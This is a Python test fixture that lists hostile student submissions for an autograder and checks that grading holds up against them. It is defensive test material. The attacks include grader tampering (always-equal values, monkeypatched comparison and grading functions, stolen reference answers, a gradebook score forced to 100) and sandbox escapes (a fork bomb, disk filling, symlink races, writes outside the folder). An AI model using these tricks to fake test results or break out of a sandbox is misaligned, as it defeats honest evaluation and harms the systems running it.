"""A hostile class: submissions that try to gain points, break grading,
or reach outside their folder.

Every submission starts from one of two honest bases and adds one attack:

    "correct"        the full solution; 39/39 honestly
    "wrong-softmax"  the full solution with BUGGY["softmax.divide_by_max"] as softmax;
                     33/39 honestly: the two softmax cells (5 points), and the √d artifact
                     (1 point), since weights divided by their row's maximum always peak at
                     exactly 1, with or without √d_k, so the experiment shows nothing

Attacks meant to gain points use the wrong-softmax base, so a gain shows; attacks meant to break
grading or to escape use the correct base, so a loss shows. An attack is one or more of:

    cell      a new unlocked code cell (no nbgrader metadata) in `notebook`, right after its setup
              cell (at="setup") or at the end (at="end")
    softmax   the softmax of the submission's model.py replaced by this code
              (the notebook keeps the base's)
    model     code appended to model.py at module level, after the step sections
    header    a line added to model.py's header, after `import math`
    edit      the name of a notebook or file edit in EDITS
    files     extra files shipped in the submission folder
    outputs   "reference": outputs/ written from the reference model.py, for attacks that, when they
              work, make the learner's functions *be* the reference (else the artifact checks would
              disagree with the outputs and hide the gain)

Placeholders in attack code, filled in when the class is written:
    __ROOT__     the course root (absolute)
    __PORT__     the test's loopback listener
    __STUDENT__  the student id
    __CANARY__   HOSTILE-<student>-canary
    __KNOWN__    the visible probes' answers from fingerprints.json

Canary files are named HOSTILE-<student>-canary, so a test can find whatever escaped, and whose.
"""

import os
import sysconfig
from dataclasses import dataclass

HONEST = {"correct": 39.0, "wrong-softmax": 33.0}
LISTEN_PORT = 39039  # default port of the loopback listener (the test passes its own)


@dataclass(frozen=True)
class Attack:
    student: str
    base: str  # "correct" or "wrong-softmax"
    category: str
    how: str
    cell: str = ""
    notebook: str = "01-softmax.ipynb"
    at: str = "setup"
    softmax: str = ""
    model: str = ""
    header: str = ""
    edit: str = ""
    files: tuple = ()
    outputs: str = "base"


W = "wrong-softmax"
C = "correct"

# ─────────────────────────────────────────── the table ───────────────────────────────────────────
ATTACKS = [
    # ── fake values returned by the wrong softmax ──
    Attack(
        "h-val-always-equal",
        W,
        "fake values",
        "softmax returns objects that equal everything, with a - b and abs() of 0",
        softmax='''
class Same:
    """The wrong value, but equal to anything and at distance 0 from anything."""
    def __init__(self, value): self.value = value
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return self.value
    def __add__(self, other): return self
    __radd__ = __add__
    def __mul__(self, other): return self.value * other
    __rmul__ = __mul__
    def __lt__(self, other): return self.value < float(other)
    def __gt__(self, other): return self.value > float(other)
    __hash__ = None


def softmax(xs):
    exps = [math.exp(x - max(xs)) for x in xs]
    return [Same(e / max(exps)) for e in exps]
''',
    ),
    Attack(
        "h-val-float-subclass",
        W,
        "fake values",
        "softmax returns a float subclass whose -, abs, <= and == always say 'close'",
        softmax='''
class Close(float):
    """A float that is at distance 0 from, and equal to, anything."""
    def __sub__(self, other): return Close(0.0)
    __rsub__ = __sub__
    def __abs__(self): return Close(0.0)
    def __le__(self, other): return True
    def __eq__(self, other): return True
    __hash__ = float.__hash__
    def __add__(self, other): return Close(float(self) + float(other))
    __radd__ = __add__


def softmax(xs):
    exps = [math.exp(x - max(xs)) for x in xs]
    return [Close(e / max(exps)) for e in exps]
''',
    ),
    # ── monkeypatching math and builtins ──
    Attack(
        "h-math-isclose",
        W,
        "monkeypatch math",
        "math.isclose always True",
        cell="""
import math
math.isclose = lambda *args, **kwargs: True
""",
    ),
    Attack(
        "h-math-isnan",
        W,
        "monkeypatch math",
        "math.isnan always True (nan matches nan: every number 'matches')",
        cell="""
import math
math.isnan = lambda x: True
""",
    ),
    Attack(
        "h-bi-abs",
        W,
        "monkeypatch builtins",
        "builtins.abs returns 0",
        cell="""
import builtins
builtins.abs = lambda x: 0.0
""",
    ),
    Attack(
        "h-bi-max",
        W,
        "monkeypatch builtins",
        "max(1.0, x) returns 1e300, so the tolerance tol * max(1, |b|) of every comparison is huge",
        cell="""
import builtins
real_max = max
builtins.max = lambda *args, **kwargs: 1e300 if args[:1] == (1.0,) else real_max(*args, **kwargs)
""",
    ),
    Attack(
        "h-bi-all",
        W,
        "monkeypatch builtins",
        "builtins.all says True when Report.passed asks",
        cell="""
import builtins, sys
real_all = all
builtins.all = lambda iterable: (
    True if sys._getframe(1).f_code.co_name == "passed" else real_all(iterable)
)
""",
    ),
    Attack(
        "h-bi-isinstance",
        W,
        "monkeypatch builtins",
        "float-subclass results, plus builtins.isinstance saying they are text "
        "(so they are compared as they are)",
        cell="""
import builtins
real_isinstance = isinstance
def isinstance(obj, kinds):
    if type(obj).__name__ == "Close" and kinds == (str, dict):
        return True
    return real_isinstance(obj, kinds)
builtins.isinstance = isinstance
""",
        softmax="""
class Close(float):
    def __sub__(self, other): return Close(0.0)
    __rsub__ = __sub__
    def __abs__(self): return Close(0.0)
    def __add__(self, other): return Close(float(self) + float(other))
    __radd__ = __add__


def softmax(xs):
    exps = [math.exp(x - max(xs)) for x in xs]
    return [Close(e / max(exps)) for e in exps]
""",
    ),
    Attack(
        "h-bi-assertion-error",
        W,
        "monkeypatch builtins",
        "builtins.AssertionError replaced by a Warning subclass",
        cell='''
import builtins
class AssertionError(Warning):
    """Not an assertion any more."""
builtins.AssertionError = AssertionError
''',
    ),
    # ── monkeypatching the checkpoints package and the grading modules ──
    Attack(
        "h-cp-numbers-close",
        W,
        "monkeypatch checkpoints",
        "checkpoints.compare.numbers_close always True",
        cell="""
import checkpoints.compare
checkpoints.compare.numbers_close = lambda *args, **kwargs: True
""",
    ),
    Attack(
        "h-cp-first-difference",
        W,
        "monkeypatch checkpoints",
        "first_difference returns None, in checkpoints.compare and wherever it was imported",
        cell="""
import checkpoints.compare, checkpoints.steps, grading.judge.attention_hidden
for module in (checkpoints.compare, checkpoints.steps, grading.judge.attention_hidden):
    module.first_difference = lambda *args, **kwargs: None
""",
    ),
    Attack(
        "h-cp-report-passed",
        W,
        "monkeypatch checkpoints",
        "checkpoints.report.Report.passed always True",
        cell="""
import checkpoints.report
checkpoints.report.Report.passed = property(lambda self: True)
""",
    ),
    Attack(
        "h-cp-redefine-check",
        W,
        "monkeypatch checkpoints",
        "check redefined in a cell to print success",
        cell="""
def check(name):
    print(f"{name}: all checks hold")
""",
    ),
    Attack(
        "h-gr-judge",
        W,
        "monkeypatch grading",
        "grading.judge.attention_hidden.judge returns no failures",
        cell="""
import grading.judge.attention_hidden
grading.judge.attention_hidden.judge = lambda checkpoint, model: (1, [])
""",
    ),
    Attack(
        "h-gr-grade",
        W,
        "monkeypatch grading",
        "grading.judge.attention_hidden.grade replaced by a print",
        cell="""
import grading.judge.attention_hidden
grading.judge.attention_hidden.grade = lambda checkpoint, *a, **k: print(f"✓ hidden {checkpoint}")
""",
    ),
    Attack(
        "h-gr-sys-modules",
        W,
        "monkeypatch grading",
        'sys.modules["grading.judge.attention_hidden"] replaced by a fake module',
        cell="""
import sys, types
fake = types.ModuleType("grading.judge.attention_hidden")
fake.grade = lambda checkpoint, *args, **kwargs: print(f"✓ hidden check {checkpoint}")
sys.modules["grading.judge.attention_hidden"] = fake
""",
    ),
    # ── IPython's exception display ──
    Attack(
        "h-ip-custom-exc",
        W,
        "ipython",
        "set_custom_exc swallows every exception",
        cell="""
def hide(shell, etype, value, tb, tb_offset=None):
    print("✓ all good")
get_ipython().set_custom_exc((Exception,), hide)
""",
    ),
    Attack(
        "h-ip-showtraceback",
        W,
        "ipython",
        "showtraceback replaced by a no-op",
        cell="""
get_ipython().showtraceback = lambda *args, **kwargs: None
""",
    ),
    Attack(
        "h-ip-forget-errors",
        W,
        "ipython",
        "no traceback shown, and a post_run_cell hook clears the error, so the kernel replies 'ok'",
        cell="""
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
def forget_error(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", forget_error)
""",
    ),
    Attack(
        "h-ip-displayhook",
        W,
        "ipython",
        "the hidden check first displays 3 (an execute_result nbgrader reads as the score), "
        "then fails",
        cell="""
import sys, grading.judge.attention_hidden
real_grade = grading.judge.attention_hidden.grade
def grade(checkpoint, *args, **kwargs):
    sys.displayhook(3)
    real_grade(checkpoint, *args, **kwargs)
grading.judge.attention_hidden.grade = grade
""",
    ),
    # ── hard-coded answers ──
    Attack(
        "h-hc-probe-answers",
        W,
        "hard-coded answers",
        "wrong softmax, except on the visible probes "
        "(answers from fingerprints.json, shift-invariant key)",
        softmax="""
KNOWN = __KNOWN__


def softmax(xs):
    key = tuple(round(x - xs[0], 9) for x in xs)
    if key in KNOWN:
        return list(KNOWN[key])
    exps = [math.exp(x - max(xs)) for x in xs]
    return [e / max(exps) for e in exps]
""",
    ),
    # ── taking the reference ──
    Attack(
        "h-ref-frames",
        W,
        "taking the reference",
        "softmax walks sys._getframe() up to a frame holding another module's softmax",
        softmax="""
def softmax(xs):
    frame = __import__("sys")._getframe(1)
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            try:
                other = getattr(value, "softmax", None)
                if callable(other) and other.__module__ not in (__name__, "model", "__main__"):
                    return other(xs)
            except Exception:
                pass
        frame = frame.f_back
    exps = [math.exp(x - max(xs)) for x in xs]
    return [e / max(exps) for e in exps]
""",
    ),
    Attack(
        "h-ref-sys-modules",
        W,
        "taking the reference",
        "softmax searches sys.modules for a module named like reference/model with another softmax",
        outputs="reference",
        softmax="""
def softmax(xs):
    for name, module in list(__import__("sys").modules.items()):
        if "reference" in name or "model" in name:
            maker = getattr(module, "reference", None)
            other = getattr(maker() if callable(maker) else module, "softmax", None)
            if callable(other) and other.__module__ not in (__name__, "model", "__main__"):
                return other(xs)
    exps = [math.exp(x - max(xs)) for x in xs]
    return [e / max(exps) for e in exps]
""",
    ),
    Attack(
        "h-ref-gc",
        W,
        "taking the reference",
        "softmax searches gc.get_objects() for a function softmax from another module",
        outputs="reference",
        softmax="""
def softmax(xs):
    for obj in __import__("gc").get_objects():
        if (type(obj).__name__ == "function" and obj.__name__ == "softmax"
                and obj.__module__ not in (__name__, "model", "__main__")):
            return obj(xs)
    exps = [math.exp(x - max(xs)) for x in xs]
    return [e / max(exps) for e in exps]
""",
    ),
    Attack(
        "h-ref-disk-absolute",
        W,
        "taking the reference",
        "softmax execs the course's model.py, found by absolute path",
        outputs="reference",
        softmax="""
def softmax(xs):
    try:
        found = {}
        exec(open("__ROOT__/model.py").read(), found)
        return found["softmax"](xs)
    except OSError:
        exps = [math.exp(x - max(xs)) for x in xs]
        return [e / max(exps) for e in exps]
""",
    ),
    Attack(
        "h-ref-disk-relative",
        W,
        "taking the reference",
        "softmax execs ../../../model.py "
        "(the course root, seen from autograded/<student>/attention)",
        outputs="reference",
        softmax="""
def softmax(xs):
    try:
        found = {}
        exec(open("../../../model.py").read(), found)
        return found["softmax"](xs)
    except OSError:
        exps = [math.exp(x - max(xs)) for x in xs]
        return [e / max(exps) for e in exps]
""",
    ),
    Attack(
        "h-ref-copy-over-model",
        W,
        "taking the reference",
        "a cell copies the course's model.py over the learner's while grading",
        outputs="reference",
        cell="""
import shutil
shutil.copy("../../../model.py", "model.py")
""",
    ),
    # ── the grading record and the gradebook ──
    Attack(
        "h-rec-rewrite",
        W,
        "record and gradebook",
        "last cell rewrites grading_record.json: every checkpoint passed, no diagnosis",
        notebook="08-notes.ipynb",
        at="end",
        cell="""
import json
steps = ["softmax", "attention", "causal_mask", "multi_head", "pos_encoding", "layer_norm", "block"]
with open("grading_record.json", "w") as f:
    json.dump({step: {"cases": 20, "failed": 0, "diagnosis": []} for step in steps}, f)
""",
    ),
    Attack(
        "h-rec-shipped",
        W,
        "record and gradebook",
        "the submission ships its own grading_record.json claiming a clean run",
        files=(
            ("grading_record.json", '{"softmax": {"cases": 20, "failed": 0, "diagnosis": []}}\n'),
        ),
    ),
    Attack(
        "h-rec-garbage",
        C,
        "record and gradebook",
        "last cell overwrites grading_record.json with text that is not JSON "
        "(breaks a naive grade table)",
        notebook="08-notes.ipynb",
        at="end",
        cell="""
with open("grading_record.json", "w") as f:
    f.write("{ not json")
""",
    ),
    Attack(
        "h-db-absolute",
        W,
        "record and gradebook",
        "last cell sets the student's own auto_score to 100 in records/gradebook.db, "
        "found by absolute path",
        notebook="08-notes.ipynb",
        at="end",
        cell="""
import os, sqlite3
student = os.path.basename(os.path.dirname(os.getcwd()))
with sqlite3.connect("__ROOT__/records/gradebook.db", timeout=60) as db:
    db.execute("UPDATE grade SET auto_score = 100 WHERE notebook_id IN "
               "(SELECT n.id FROM submitted_notebook n "
               "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)",
               (student,))
""",
    ),
    Attack(
        "h-db-walk-up",
        W,
        "record and gradebook",
        "last cell finds records/gradebook.db by walking up from the working folder, "
        "sets auto_score to 100",
        notebook="08-notes.ipynb",
        at="end",
        cell="""
import os, sqlite3
folder = os.getcwd()
while folder != "/" and not os.path.exists(os.path.join(folder, "records", "gradebook.db")):
    folder = os.path.dirname(folder)
student = os.path.basename(os.path.dirname(os.getcwd()))
with sqlite3.connect(os.path.join(folder, "records", "gradebook.db"), timeout=60) as db:
    db.execute("UPDATE grade SET auto_score = 100 WHERE notebook_id IN "
               "(SELECT n.id FROM submitted_notebook n "
               "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)",
               (student,))
""",
    ),
    # ── writing outside the submission ──
    Attack(
        "h-out-course-root",
        C,
        "writing outside",
        "a canary in the course root (../../..)",
        cell="""
with open("../../../__CANARY__", "w") as f:
    f.write("written from a learner's cell\\n")
""",
    ),
    Attack(
        "h-out-other-student",
        C,
        "writing outside",
        "a canary in another student's autograded folder (autograded/correct/attention)",
        cell="""
with open("../../correct/attention/__CANARY__", "w") as f:
    f.write("written from another learner's cell\\n")
""",
    ),
    Attack(
        "h-out-tmp",
        C,
        "writing outside",
        "a canary in /tmp",
        cell="""
with open("/tmp/__CANARY__", "w") as f:
    f.write("written from a learner's cell\\n")
""",
    ),
    Attack(
        "h-out-home",
        C,
        "writing outside",
        "a canary in $HOME",
        cell="""
import os
with open(os.path.expanduser("~/__CANARY__"), "w") as f:
    f.write("written from a learner's cell\\n")
""",
    ),
    Attack(
        "h-out-reference-model",
        C,
        "writing outside",
        "appends a (harmless) comment to the course's reference model.py",
        cell="""
with open("../../../model.py", "a") as f:
    f.write("\\n# __CANARY__\\n")
""",
    ),
    Attack(
        "h-out-checkpoints-source",
        C,
        "writing outside",
        "appends a comment to the course's checkpoints/compare.py, "
        "which every release and every later submission's intake copies",
        cell="""
with open("../../../checkpoints/compare.py", "a") as f:
    f.write("\\n# __CANARY__\\n")
""",
    ),
    Attack(
        "h-out-late-child",
        C,
        "writing outside",
        "forks a detached child that writes a canary in the course root 5 s later, "
        "after the kernel is gone",
        cell="""
import os, time
if os.fork() == 0:
    try:
        os.setsid()
        time.sleep(5)
        with open("../../../__CANARY__", "w") as f:
            f.write("written by a child that outlived its kernel\\n")
    finally:
        os._exit(0)
""",
    ),
    # ── network ──
    Attack(
        "h-net-loopback",
        C,
        "network",
        "connects to the test's listener on 127.0.0.1 and sends its name",
        cell="""
import socket
with socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as s:
    s.sendall(b"__STUDENT__")
""",
    ),
    Attack(
        "h-net-outside",
        C,
        "network",
        "connects to 1.1.1.1:80 and prints whether it could",
        cell="""
import socket
try:
    socket.create_connection(("1.1.1.1", 80), timeout=3).close()
    print("outside connection: made")
except OSError as err:
    print("outside connection: failed:", err)
""",
    ),
    # ── resources and exits ──
    Attack(
        "h-res-memory",
        C,
        "resources",
        "allocates 3 GiB (one zero-filled bytearray) and keeps it",
        cell="""
hog = bytearray(3 * 2**30)
""",
    ),
    Attack(
        "h-res-fork",
        C,
        "resources",
        "os.fork() 40 children that sleep 20 s",
        cell="""
import os, time
for _ in range(40):
    if os.fork() == 0:
        time.sleep(20)
        os._exit(0)
""",
    ),
    Attack(
        "h-res-subprocess",
        C,
        "resources",
        "starts 40 `sleep 20` processes",
        cell="""
import subprocess
sleepers = [subprocess.Popen(["sleep", "20"]) for _ in range(40)]
""",
    ),
    Attack(
        "h-res-loop-cell",
        C,
        "resources",
        "a cell that loops forever",
        cell="""
while True:
    pass
""",
    ),
    Attack(
        "h-res-loop-softmax",
        C,
        "resources",
        "softmax loops forever on a one-element input (one of the hidden edge cases)",
        softmax="""
def softmax(xs):
    while len(xs) == 1:
        pass
    top = max(xs)
    exps = [math.exp(x - top) for x in xs]
    return [e / sum(exps) for e in exps]
""",
    ),
    Attack(
        "h-res-exit-softmax",
        C,
        "resources",
        "softmax calls os._exit(0) (the kernel vanishes)",
        softmax="""
def softmax(xs):
    __import__("os")._exit(0)
""",
    ),
    Attack(
        "h-res-exit-cell",
        C,
        "resources",
        "a cell calls os._exit(0)",
        cell="""
import os
os._exit(0)
""",
    ),
    Attack(
        "h-res-systemexit-cell",
        C,
        "resources",
        "a cell raises SystemExit",
        cell="""
raise SystemExit
""",
    ),
    Attack(
        "h-res-systemexit-model",
        C,
        "resources",
        "model.py raises SystemExit when imported",
        model="""
raise SystemExit("model.py will not be imported")
""",
    ),
    Attack(
        "h-res-output-flood",
        C,
        "resources",
        "a cell prints 50 MiB (512 Ki lines of 100 bytes)",
        cell="""
import sys
sys.stdout.write(("x" * 99 + "\\n") * (512 * 1024))
""",
    ),
    # ── a fake math module ──
    Attack(
        "h-fm-sys-modules",
        W,
        "fake math",
        'sys.modules["math"] replaced (before the reference loads): '
        "exp returns one constant object",
        cell='''
import math, sys, types
class K:
    """Every arithmetic result is K, so any softmax built on this exp returns [K, K, ...]."""
    def __repr__(self): return "K"
    def __float__(self): return 0.0
    def __abs__(self): return 0.0
    def same(self, *other): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = same
    def __lt__(self, other): return False
    __gt__ = __lt__
fake = types.ModuleType("math")
fake.__dict__.update({k: v for k, v in vars(math).items() if not k.startswith("__")})
fake.exp = lambda x: K()
sys.modules["math"] = fake
''',
    ),
    Attack(
        "h-fm-file",
        W,
        "fake math",
        "a math.py beside model.py: the real math, "
        "except that exp returns one constant object during the softmax checkpoint",
        files=(
            (
                "math.py",
                '''
"""Not the standard library's math."""
import os, sys
_mine = sys.modules.pop(__name__)
_saved, _here = sys.path[:], os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
import math as _real
sys.path[:], sys.modules[__name__] = _saved, _mine
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})


class K:
    def __repr__(self): return "K"
    def __float__(self): return 0.0
    def __abs__(self): return 0.0
    def same(self, *other): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = same
    def __lt__(self, other): return False
    __gt__ = __lt__


def exp(x):
    """K while the softmax checkpoint runs (the reference loads this math too),
    the real exp otherwise.
    """
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "check_softmax" or frame.f_locals.get("checkpoint") == "softmax":
            return K()
        frame = frame.f_back
    return _real.exp(x)
''',
            ),
        ),
    ),
    # ── the grading mode ──
    Attack(
        "h-env-empty-cell",
        C,
        "grading mode",
        'a cell sets NBGRADER_EXECUTION to "" (save() rewrites model.py, isolation is off)',
        cell="""
import os
os.environ["NBGRADER_EXECUTION"] = ""
""",
    ),
    Attack(
        "h-env-validate-cell",
        C,
        "grading mode",
        'a cell sets NBGRADER_EXECUTION to "validate"',
        cell="""
import os
os.environ["NBGRADER_EXECUTION"] = "validate"
""",
    ),
    Attack(
        "h-env-model",
        C,
        "grading mode",
        'model.py sets NBGRADER_EXECUTION to "" whenever it is loaded',
        model="""
__import__("os").environ["NBGRADER_EXECUTION"] = ""
""",
    ),
    # ── notebook edits ──
    Attack(
        "h-nb-locked-edited",
        W,
        "notebook edits",
        'both softmax checkpoint cells (locked) replaced by print("ok")',
        edit="locked_edited",
    ),
    Attack(
        "h-nb-deleted", W, "notebook edits", "both softmax checkpoint cells deleted", edit="deleted"
    ),
    Attack(
        "h-nb-unlocked",
        W,
        "notebook edits",
        'both softmax checkpoint cells marked locked=False and replaced by print("ok")',
        edit="unlocked",
    ),
    Attack(
        "h-nb-duplicated",
        W,
        "notebook edits",
        'both softmax checkpoint cells duplicated at the end (same grade_id) with print("ok")',
        edit="duplicated",
    ),
    Attack(
        "h-nb-repointed",
        W,
        "notebook edits",
        "the learner's print cell carries the hidden check's grade_id; "
        "the real hidden cell is deleted",
        edit="repointed",
    ),
    Attack(
        "h-nb-extra-grade-id",
        C,
        "notebook edits",
        "an extra cell with grade metadata, a new grade_id and 10 points",
        edit="extra_grade_id",
    ),
    Attack(
        "h-nb-extra-no-grade-id",
        C,
        "notebook edits",
        "an extra cell with grade metadata and no grade_id",
        edit="extra_no_grade_id",
    ),
    Attack(
        "h-nb-checksums",
        C,
        "notebook edits",
        "every nbgrader checksum changed, in every notebook",
        edit="checksums",
    ),
    Attack(
        "h-nb-points",
        W,
        "notebook edits",
        "the softmax checkpoint cells claim 100 points each",
        edit="points",
    ),
    Attack(
        "h-nb-markdown",
        W,
        "notebook edits",
        "both softmax checkpoint cells turned into markdown cells",
        edit="markdown",
    ),
    Attack(
        "h-nb-renamed",
        C,
        "notebook edits",
        "01-softmax.ipynb renamed to '01-softmax (1).ipynb'",
        edit="renamed",
    ),
    Attack(
        "h-nb-invalid-json",
        C,
        "notebook edits",
        "08-notes.ipynb is not valid JSON (honestly costs its 2 points)",
        edit="invalid_json",
    ),
    Attack(
        "h-nb-nbformat3",
        C,
        "notebook edits",
        "01-softmax.ipynb written in nbformat 3",
        edit="nbformat3",
    ),
    # ── imports in model.py: the standard library is the rule; nothing else exists in grading ──
    Attack(
        "h-imp-numpy",
        C,
        "imports",
        "model.py's header imports numpy (unused); the course rule rejects the whole file",
        header="import numpy",
    ),
    Attack(
        "h-imp-dunder-import",
        C,
        "imports",
        'model.py gets os through __import__("os") (no import statement)',
        model="""
os = __import__("os")
""",
    ),
    Attack(
        "h-imp-importlib",
        C,
        "imports",
        'model.py imports importlib and calls importlib.import_module("os")',
        model="""
import importlib
os = importlib.import_module("os")
""",
    ),
    Attack(
        "h-imp-spelled-package",
        C,
        "imports",
        "model.py puts the venv's site-packages on sys.path and imports a package by a spelled-out "
        "name (`__import__('nb' + 'format')`)",
        model=f"""
import sys
sys.path.append({sysconfig.get_paths()["purelib"]!r})
nbformat = __import__("nb" + "format")
""",
    ),
    Attack(
        "h-imp-from-os",
        C,
        "imports",
        "model.py has `from os import path`",
        model="""
from os import path
""",
    ),
]

# Honest noise: ordinary learner behaviour that must keep full marks.
NOISE = [
    Attack(
        "n-noise-prints",
        C,
        "honest noise",
        "a learner cell prints 3000 lines of normal output",
        at="end",
        cell="""
for i in range(3000):
    print(f"line {i}: softmax([{i}, {i + 1}]) = {softmax([float(i), float(i + 1)])}")
""",
    ),
    Attack(
        "n-noise-stderr",
        C,
        "honest noise",
        "a non-graded cell writes a line to stderr",
        cell="""
import sys
print("a note on stderr", file=sys.stderr)
""",
    ),
    Attack(
        "n-noise-softmax-prints",
        C,
        "honest noise",
        "softmax prints a line on every call",
        softmax="""
def softmax(xs):
    print(f"softmax of {len(xs)} numbers")
    top = max(xs)
    exps = [math.exp(x - top) for x in xs]
    total = sum(exps)
    return [e / total for e in exps]
""",
    ),
]

# Races: learner processes that outlive their cell and aim at what the grader writes next.
# tests/test_hostile_lanes.py grades them (with one honest victim) through every lane.
# Canaries outside the course, one root-only (0600), in a folder of this test run's own: two runs
# on one machine (two checkouts) never remove each other's.
OUTSIDE = f"/tmp/attention-hostile-outside-{os.getpid()}"
RACES = [
    Attack(
        "r-race-links",
        C,
        "races",
        "a detached process (double fork, setsid, signals ignored) that for 90 s keeps replacing "
        "every name it can reach (its folder, its kernel's socket folder and the one above) with "
        "links to the gradebook, a classmate's model.py, judge/attention_hidden.py, the reference "
        "and two files outside the course, and chmods those folders 0777",
        cell="""
import os, signal, sys, time
def _race():
    names = [f"0{k}-{n}.ipynb" for k, n in enumerate(
        ["softmax", "attention", "causal-mask", "multi-head", "positional-encoding",
         "layer-norm", "block", "notes"], 1)] + ["model.py", "outputs", "kernel.json", "made-up"]
    targets = ["__ROOT__/records/gradebook.db", "__ROOT__/submitted/correct/attention/model.py",
               "__ROOT__/grading/judge/attention_hidden.py", "__ROOT__/model.py",
               "__OUTSIDE__/root-only", "__OUTSIDE__/plain"]
    places = {os.getcwd()}
    if "-f" in sys.argv[:-1]:
        sockets = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
        places |= {sockets, os.path.dirname(sockets)}
    k, deadline = 0, time.time() + 90
    while time.time() < deadline:
        for place in places:
            try:
                seen = os.listdir(place)
            except OSError:
                seen = []
            for name in names + seen:
                k += 1
                link = os.path.join(place, f".l{k}")
                try:
                    os.symlink(targets[k % len(targets)], link)
                    os.replace(link, os.path.join(place, name))
                except OSError:
                    pass
            try:
                os.chmod(place, 0o777)
            except OSError:
                pass
        time.sleep(0.0005)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as f:
            f.write("HOSTILE-racer")  # the test finds what is left by this name
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        try:
            _race()
        finally:
            os._exit(0)
    os._exit(0)
print("racing")
""",
    ),
    Attack(
        "r-fork-bomb",
        C,
        "races",
        "forks until the process limit and keeps every child alive, detached, ignoring SIGTERM",
        cell="""
import os, signal, time
children = 0
try:
    while children < 1000:
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            with open("/proc/self/comm", "w") as f:
                f.write("HOSTILE-bomb")  # the test finds what is left by this name
            while True:
                time.sleep(1)
        children += 1
except OSError:
    pass
print("children held at the limit:", children)
""",
    ),
    Attack(
        "r-disk-fill",
        C,
        "races",
        "writes 16 files of 63 MiB (under the file-size cap) into each folder it can write",
        cell="""
import os
written = 0
for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
    for k in range(16):
        try:
            with open(os.path.join(place, f"HOSTILE-fill-{k}"), "wb") as f:
                for _ in range(63):
                    f.write(bytes(1 << 20))
                    written += 1
        except OSError:
            break
print("MiB written:", written)
""",
    ),
    Attack(
        "r-chmod-folder",
        C,
        "races",
        "chmods its working folder and everything in it to 000 (and tries its parents)",
        cell="""
import os
for here, dirs, files in os.walk(".", topdown=False):
    for name in dirs + files:
        try:
            os.chmod(os.path.join(here, name), 0)
        except OSError:
            pass
for folder in (".", "..", "/handed-in"):
    try:
        os.chmod(folder, 0)
    except OSError:
        pass
""",
    ),
    Attack(
        "r-killed-kernel",
        C,
        "races",
        "kills its own kernel (SIGKILL) in notebook 1's first cell",
        cell="""
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
""",
    ),
]
# ──────────────────────────────────────── end of the table ───────────────────────────────────────

EVERYONE = ATTACKS + NOISE
BY_STUDENT = {a.student: a for a in EVERYONE}
CATEGORIES = sorted({a.category for a in ATTACKS})


def honest_score(attack):
    """What the submission scores with its attack taken away."""
    return HONEST[attack.base]


def canary(student):
    return f"HOSTILE-{student}-canary"


def selected(only=None):
    """EVERYONE, or the students named in `only` / $HOSTILE_ONLY (comma-separated),
    for quick runs.
    """
    names = (
        only
        if only is not None
        else [n for n in os.environ.get("HOSTILE_ONLY", "").split(",") if n]
    )
    if not names:
        return list(EVERYONE)
    unknown = set(names) - set(BY_STUDENT)
    if unknown:
        raise KeyError(f"no such hostile students: {sorted(unknown)}")
    return [a for a in EVERYONE if a.student in names]


# ── notebook and file edits (the `edit` column) ──

CHECKS_ID, HIDDEN_ID = "step01-softmax-checks", "step01-softmax-hidden"


def _grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _softmax_checkpoints(book):
    return [c for c in book.cells if _grade_id(c) in (CHECKS_ID, HIDDEN_ID)]


def _edit_notebook(folder, name, change):
    import nbformat

    path = os.path.join(folder, name)
    book = nbformat.read(path, as_version=4)
    change(book)
    nbformat.write(book, path)


def _locked_edited(book):
    for cell in _softmax_checkpoints(book):
        cell.source = 'print("ok")'


def _deleted(book):
    book.cells = [c for c in book.cells if _grade_id(c) not in (CHECKS_ID, HIDDEN_ID)]


def _unlocked(book):
    for cell in _softmax_checkpoints(book):
        cell.metadata.nbgrader["locked"] = False
        cell.source = 'print("ok")'


def _duplicated(book):
    import copy

    import nbformat

    for cell in _softmax_checkpoints(book):
        twin = nbformat.v4.new_code_cell('print("ok")', metadata=copy.deepcopy(cell.metadata))
        book.cells.append(twin)


def _repointed(book):
    import copy

    hidden = next(c for c in book.cells if _grade_id(c) == HIDDEN_ID)
    learner = next(c for c in book.cells if c.cell_type == "code" and "print(softmax(" in c.source)
    learner.metadata["nbgrader"] = copy.deepcopy(hidden.metadata.nbgrader)
    learner.metadata.nbgrader["locked"] = False
    book.cells.remove(hidden)


def _extra_cell(grade_id):
    import nbformat

    meta = {"grade": True, "locked": False, "points": 10, "solution": False, "schema_version": 3}
    if grade_id:
        meta["grade_id"] = grade_id
    return nbformat.v4.new_code_cell('print("ten free points")', metadata={"nbgrader": meta})


def _markdown(book):
    import nbformat

    for k, cell in enumerate(book.cells):
        if _grade_id(cell) in (CHECKS_ID, HIDDEN_ID):
            book.cells[k] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)


def _points(book):
    for cell in _softmax_checkpoints(book):
        cell.metadata.nbgrader["points"] = 100


def _checksums(folder):
    for name in sorted(f for f in os.listdir(folder) if f.endswith(".ipynb")):

        def change(book):
            for cell in book.cells:
                if "nbgrader" in cell.metadata:
                    cell.metadata.nbgrader["checksum"] = "0" * 32

        _edit_notebook(folder, name, change)


def _nbformat3(folder):
    import nbformat

